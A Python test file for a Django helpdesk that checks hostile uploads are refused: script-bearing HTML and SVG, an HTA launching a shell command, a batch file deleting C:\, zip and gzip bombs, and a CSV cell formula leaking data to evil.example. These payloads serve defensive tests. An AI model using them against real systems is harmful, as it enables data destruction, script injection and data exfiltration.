"""Hostile files and text: what a customer (or a spammer) can upload, and what comes back."""

import gzip
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from api.services import api_token_create
from helpdesk.mail.models import OutboundEmail
from tickets import services
from tickets.attachments import check_upload
from tickets.models import Attachment, Message, Ticket

pytestmark = pytest.mark.django_db
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
HOSTILE = {
    "page.html": b"<html><script>alert(document.cookie)</script></html>",
    "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
    "app.js": b"fetch('/api/me/').then(r => r.text()).then(alert)",
    "setup.hta": b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>',
    "run.bat": b"@echo off\r\ndel /q C:\\*\r\n",
}


def _form(**extra):
    return {"kind": "error", "subject": "Import fails", "body": "Error 500", "customer_urgency": "high", **extra}


def _zip(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, size in entries:
            with archive.open(name, "w", force_zip64=True) as member:
                chunk = b"\x00" * (1024 * 1024)
                for _ in range(size // len(chunk)):
                    member.write(chunk)
                member.write(b"\x00" * (size % len(chunk)))
    return buffer.getvalue()


def _api(user):
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {api_token_create(user=user, name='t')[1]}")
    return client


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_markup_and_scripts_do_not_upload_as_text(client_for, customer_a, name):
    response = client_for(customer_a).post(
        reverse("tickets:new"), _form(attachments=[SimpleUploadedFile(name, HOSTILE[name], "text/plain")])
    )
    assert response.status_code == 200
    assert name in response.content.decode()
    assert not Ticket.objects.exists() and not Attachment.objects.exists()


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_markup_and_scripts_are_refused_for_inbound_mail_too(name):
    with pytest.raises(Exception) as exc:
        check_upload(SimpleUploadedFile(name, HOSTILE[name]))
    assert name in " ".join(exc.value.messages)


def test_download_name_carries_the_extension_of_the_type_served(client_for, customer_a):
    ticket = services.ticket_create(
        requester=customer_a, data={"kind": "error", "subject": "s", "body": "b"},
        files=[SimpleUploadedFile("screen.pdf", PNG), SimpleUploadedFile("error_log", b"ERR 1\n")],
    )
    # A row stored before the extension allow-list existed.
    legacy = Attachment.objects.create(
        ticket=ticket, uploaded_by=customer_a, original_name="page.html", content_type="text/plain",
        size=10, sha256="0" * 64, file=ticket.attachments.first().file.name,
    )
    client = client_for(customer_a)
    names = {}
    for attachment in ticket.attachments.order_by("pk"):
        response = client.get(reverse("tickets:attachment", args=[ticket.number, attachment.pk]))
        names[attachment.original_name] = (response["Content-Type"], response["Content-Disposition"])
    assert names["screen.pdf"] == ("image/png", 'attachment; filename="screen.pdf.png"')
    assert names["error_log"][1] == 'attachment; filename="error_log.txt"'
    assert names[legacy.original_name][1] == 'attachment; filename="page.html.txt"'
    api = _api(customer_a).get(reverse("api:ticket-attachment", args=[ticket.number, legacy.pk]))
    assert api["Content-Disposition"] == 'attachment; filename="page.html.txt"'


def test_zip_bomb_is_refused_by_ratio(client_for, customer_a):
    bomb = _zip([("a.log", 64 * 1024 * 1024)])
    assert len(bomb) < 200_000
    response = client_for(customer_a).post(
        reverse("tickets:new"), _form(attachments=[SimpleUploadedFile("logs.zip", bomb)])
    )
    page = response.content.decode()
    assert response.status_code == 200 and "logs.zip" in page and "unpacks to more" in page
    assert not Ticket.objects.exists()


def test_zip_over_the_unpacked_limit_is_refused_even_at_a_modest_ratio(settings):
    settings.ATTACHMENT_ARCHIVE_MAX_UNPACKED_BYTES = 1024 * 1024
    with pytest.raises(Exception) as exc:
        check_upload(SimpleUploadedFile("logs.zip", _zip([("a.log", 2 * 1024 * 1024)])))
    assert "logs.zip" in exc.value.messages[0]


def test_gzip_bomb_is_refused_by_its_trailer():
    bomb = gzip.compress(b"\x00" * (64 * 1024 * 1024))
    with pytest.raises(Exception) as exc:
        check_upload(SimpleUploadedFile("app.log.gz", bomb))
    assert "app.log.gz" in exc.value.messages[0]


def test_ordinary_archives_and_logs_are_accepted():
    log = b"".join(b"2026-12-01 12:00:%02d ERROR connection reset by peer id=%d\n" % (i % 60, i) for i in range(5000))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("server.log", log)
    assert check_upload(SimpleUploadedFile("logs.zip", buffer.getvalue())) == "application/zip"
    assert check_upload(SimpleUploadedFile("server.log.gz", gzip.compress(log))) == "application/gzip"
    assert check_upload(SimpleUploadedFile("server.LOG", log)) == "text/plain"


def test_damaged_zip_is_refused_with_its_name():
    damaged = _zip([("a.log", 1000)])[:-30]
    with pytest.raises(Exception) as exc:
        check_upload(SimpleUploadedFile("broken.zip", damaged))
    assert "broken.zip" in exc.value.messages[0]


def test_twenty_one_files_give_a_form_error_naming_the_limit(client_for, customer_a):
    files = [SimpleUploadedFile(f"s{i}.png", PNG) for i in range(21)]
    response = client_for(customer_a).post(reverse("tickets:new"), _form(attachments=files))
    assert response.status_code == 200
    assert "at most 20 files" in response.content.decode()
    assert not Ticket.objects.exists() and not OutboundEmail.objects.exists()
    files = [SimpleUploadedFile(f"s{i}.png", PNG) for i in range(20)]
    ok = client_for(customer_a).post(reverse("tickets:new"), _form(attachments=files))
    assert ok.status_code == 302 and Attachment.objects.count() == 20


def test_file_count_limit_on_replies_web_and_api(client_for, customer_a, engineer, settings):
    settings.ATTACHMENT_MAX_FILES_PER_MESSAGE = 3
    ticket = services.ticket_create(requester=customer_a, data={"kind": "error", "subject": "s", "body": "b"})
    files = lambda: [SimpleUploadedFile(f"s{i}.png", PNG) for i in range(4)]  # noqa: E731
    customer = client_for(customer_a).post(
        reverse("tickets:reply", args=[ticket.number]), {"body": "files", "attachments": files()}
    )
    assert customer.status_code == 400 and "at most 3 files" in customer.content.decode()
    staff = client_for(engineer).post(
        reverse("workspace:work_reply", args=[ticket.number]), {"body": "files", "attachments": files()}
    )
    assert "at most 3 files" in staff.content.decode()
    api = _api(customer_a).post(
        reverse("api:ticket-reply", args=[ticket.number]), {"body": "files", "attachments": files()}, format="multipart"
    )
    assert api.status_code == 400 and "at most 3 files" in " ".join(api.json()["errors"]["attachments"])
    created = _api(customer_a).post(
        reverse("api:ticket-list"), {"subject": "s", "body": "b", "attachments": files()}, format="multipart"
    )
    assert created.status_code == 400 and "at most 3 files" in " ".join(created.json()["errors"]["attachments"])
    assert not Message.objects.exists() and Ticket.objects.count() == 1


def test_more_files_than_django_reads_give_a_clear_page_not_a_bare_400(client_for, customer_a):
    files = [SimpleUploadedFile(f"s{i}.png", PNG) for i in range(101)]
    response = client_for(customer_a).post(reverse("tickets:new"), _form(attachments=files))
    assert response.status_code == 413
    assert "at most 20 files" in response.content.decode()
    assert not Ticket.objects.exists()


def test_request_over_the_size_cap_is_refused_before_it_is_read(client_for, customer_a, settings):
    settings.REQUEST_MAX_BYTES = 50_000
    big = [SimpleUploadedFile("big.log", b"x" * 60_000)]
    response = client_for(customer_a).post(reverse("tickets:new"), _form(attachments=big))
    assert response.status_code == 413
    assert "The request is too large" in response.content.decode()
    big = [SimpleUploadedFile("big.log", b"x" * 60_000)]
    api = _api(customer_a).post(reverse("api:ticket-list"), {"subject": "s", "body": "b", "attachments": big}, format="multipart")
    assert api.status_code == 413 and api.json()["code"] == "request_too_large"
    assert not Ticket.objects.exists()


def test_pasted_two_megabyte_log_gives_a_form_error(client_for, customer_a):
    response = client_for(customer_a).post(reverse("tickets:new"), _form(body="ERROR stack frame\n" * 120_000))
    assert response.status_code == 200
    assert "at most 100000 characters" in response.content.decode()
    assert not Ticket.objects.exists()


def test_text_over_djangos_field_limit_gives_a_page_saying_what_to_do(client_for, customer_a):
    response = client_for(customer_a).post(reverse("tickets:new"), _form(body="x" * (6 * 1024 * 1024)))
    assert response.status_code == 413
    assert "Attach a long log as a file" in response.content.decode()


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_cells_that_spreadsheets_read_as_formulas_are_escaped(cell):
    from helpdesk.csv_export import csv_safe

    assert csv_safe(cell) == "'" + cell
    assert csv_safe("Acme = Hosting") == "Acme = Hosting" and csv_safe(-5) == -5


def test_report_export_escapes_an_organisation_named_like_a_formula(client_for, admin_user):
    import csv as csv_module

    from helpdesk.accounts.tests.factories import OrganisationFactory, UserFactory

    organisation = OrganisationFactory(name='=HYPERLINK("https://evil.example/?"&A1,"Click")')
    customer = UserFactory(organisation=organisation)
    services.ticket_create(requester=customer, data={"kind": "error", "subject": "s", "body": "b"})
    response = client_for(admin_user).get(reverse("workspace:reports"), {"export": "pareto"})
    rows = list(csv_module.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + organisation.name in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def _raw_http(port, request, timeout=10):
    import socket

    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(request)
        chunks = []
        while True:
            try:
                chunk = sock.recv(65536)
            except (ConnectionResetError, TimeoutError):
                break
            if not chunk:
                break
            chunks.append(chunk)
    return b"".join(chunks)


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
def test_gunicorn_with_our_config_refuses_huge_lines_headers_and_bodies(tmp_path):
    """The real server: gunicorn's caps on the request line and headers, Django's on the body."""
    import os
    import socket
    import subprocess
    import sys

    from django.db import connection

    from tests.conftest import PROJECT_ROOT, it_database_url, it_free_port, it_wait_until

    port = it_free_port()
    env = {
        **os.environ, "DJANGO_SETTINGS_MODULE": "helpdesk.settings_test", "GUNICORN_WORKERS": "1",
        "DATABASE_URL": it_database_url(connection.settings_dict), "REQUEST_MAX_BYTES": "100000",
    }
    log = open(tmp_path / "gunicorn.log", "w")
    proc = subprocess.Popen(
        [sys.executable, "-m", "gunicorn", "helpdesk.wsgi:application", "--config", "python:helpdesk.gunicorn_conf",
         "--bind", f"127.0.0.1:{port}"],
        cwd=PROJECT_ROOT, env=env, stdout=log, stderr=subprocess.STDOUT,
    )

    def listening():
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
            return True
        except OSError:
            return False

    try:
        it_wait_until(listening, 30, message="gunicorn listening")
        line = _raw_http(port, b"GET /?q=" + b"a" * 9000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        assert line.startswith(b"HTTP/1.1 400") and b"Request Line is too large" in line
        headers = b"".join(b"X-H%d: v\r\n" % i for i in range(150))
        many = _raw_http(port, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n" + headers + b"\r\n")
        assert many.startswith(b"HTTP/1.1 431") and b"Error parsing headers" in many
        body = _raw_http(
            port, b"POST /tickets/new/ HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: multipart/form-data; boundary=x\r\n"
            b"Content-Length: 500000\r\nConnection: close\r\n\r\n",
        )
        assert body.startswith(b"HTTP/1.1 413") and b"The request is too large" in body
    finally:
        proc.terminate()
        proc.wait(10)
        log.close()
